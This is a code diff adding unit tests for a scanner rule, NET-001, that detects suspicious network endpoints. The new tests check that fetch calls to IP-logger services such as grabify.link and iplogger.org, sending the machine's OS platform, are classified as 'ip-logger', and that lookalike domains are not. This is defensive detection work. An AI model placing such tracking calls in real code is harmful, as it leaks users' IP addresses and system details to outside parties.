@@ -24,3 +24,19 @@ describe('NET-001 suspicious-endpoint', () => {
     expect(await ruleFindings('NET-001', "fetch('https://api.example.com/v1')")).toHaveLength(0);
   });
 });
+
+describe('NET-001 IP loggers', () => {
+  it('an IP-logger link is an endpoint of its own kind, also on short domains', async () => {
+    for (const url of ['https://grabify.link/E09EIF', 'https://iplogger.org/1aBcD', 'https://2no.co/2x3Yz']) {
+      const f = await ruleFindings(
+        'NET-001',
+        `fetch('${url}', { headers: { 'User-Agent': require('os').platform() } });`,
+      );
+      expect(f[0]?.evidence?.endpointKind, url).toBe('ip-logger');
+    }
+  });
+  it('hosts that merely end in the same letters are not', async () => {
+    expect(await ruleFindings('NET-001', "fetch('https://notgrabify.linkedin.example/x');")).toHaveLength(0);
+    expect(await ruleFindings('NET-001', "fetch('https://myiplogger.org.example.com/');")).toHaveLength(0);
+  });
+});
